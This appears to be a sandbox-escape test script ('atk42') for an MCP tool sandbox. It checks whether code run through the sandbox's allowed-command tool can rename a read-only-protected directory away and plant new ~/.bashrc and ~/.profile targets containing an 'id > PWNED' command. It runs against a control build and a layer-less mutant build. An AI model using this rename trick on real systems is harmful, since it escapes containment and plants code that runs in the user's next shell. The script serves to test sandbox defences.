#!/usr/bin/env python3
"""atk42: the allowlist without a layer (mutant build, MCPSANDBOX_MUTANT=workspace-layer: the branch of a host where
overlayfs cannot be mounted on the workspace) mounts a protected link's nearest directory read-only (roParents, atk41
F16's fix) and a protected file read-only; the call renames that directory's parent entry away and makes a new one
with its own file under the old name: ~/.bashrc -> ws/home/bashrc -> ../shell/bashrc, ~/.profile -> ws/dot/profile.
Control: the same binary with the layer. Run setup.sh first (this script runs it again per case)."""
import os, sys, subprocess
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from stdio import Stdio, text
home = "/tmp/atk42/ll/home"
direct = ("import os\n"
          "for p, s in (('home/bashrc', 'bashrc'), ('dot/profile', 'profile')):\n"
          "    try:\n        open(p, 'w').write('x')\n        print(p, 'written in place')\n"
          "    except OSError as e:\n        print(p, 'in place:', e.strerror)\n")
rename = ("import os\n"
          "for d, f in (('home', 'bashrc'), ('dot', 'profile')):\n"
          "    try:\n"
          "        os.rename(d, d + '.old'); os.mkdir(d)\n"
          "        open(d + '/' + f, 'w').write('id > /tmp/atk42/ll/PWNED_' + f + '\\n')\n"
          "        print(d, 'renamed away, new', d + '/' + f, 'written')\n"
          "    except OSError as e:\n        print(d, 'rename:', e.strerror)\n"
          "open('notes.md', 'w').write('an ordinary change\\n'); print('notes.md written')\n")
for label, mut in (("control, with the layer", ""), ("layer-less", "workspace-layer")):
    subprocess.run(["sh", os.path.dirname(os.path.abspath(__file__)) + "/setup.sh"], check=True)
    env = {"HOME": home, "PATH": "/usr/bin:/bin"}
    if mut: env["MCPSANDBOX_MUTANT"] = mut
    s = Stdio(["/tmp/atk42/mcpsandbox-mutant", "serve", "--policy", "/tmp/atk42/ll/py.toml"], env=env, err="/tmp/atk42/ll/serve.log")
    print("==", label)
    for code in (direct, rename):
        print(text(s.call("run_allowed_command", {"command": "python3", "args": ["-c", code]})).strip()[:900])
    s.close()
    for n in (".bashrc", ".profile"):
        print("~/%s -> %s reads: %r" % (n, os.path.realpath(home + "/" + n), open(home + "/" + n).read()))
